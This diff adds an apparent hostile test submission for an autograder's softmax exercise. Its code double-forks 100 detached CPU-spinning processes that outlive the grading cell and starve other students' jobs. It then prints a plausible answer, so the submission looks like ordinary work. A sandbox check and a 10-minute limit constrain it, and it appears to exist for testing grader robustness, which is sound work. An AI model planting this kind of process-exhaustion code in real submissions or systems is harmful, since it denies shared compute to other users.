@@ -1,0 +1,26 @@
+# HOSTILE: lecture-ReAct-exercises ex01_softmax: 100 detached CPU spinners (each double-forked into a new session, so it outlives the cell) that starve the students graded beside it; bounded: each spinner stops by itself after 10 minutes
+import os as _os
+if not _os.path.isdir("/grading/kit"):  # safety catch for instructors: never run this outside the grader sandbox
+    raise SystemExit("hostile catalogue entry refused to run outside the grader sandbox")
+import os
+import time
+
+started = 0
+for _ in range(100):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:                      # child: a new session, then a grandchild that spins
+        try:
+            os.setsid()
+            if os.fork() == 0:
+                stop = time.monotonic() + 600
+                while time.monotonic() < stop:
+                    pass
+        finally:
+            os._exit(0)
+    os.waitpid(pid, 0)                # the child exits at once: the spinner is an orphan
+    started += 1
+print("started", started, "detached spinners", flush=True)
+softmax_answer = [0.25, 0.25, 0.25, 0.25]
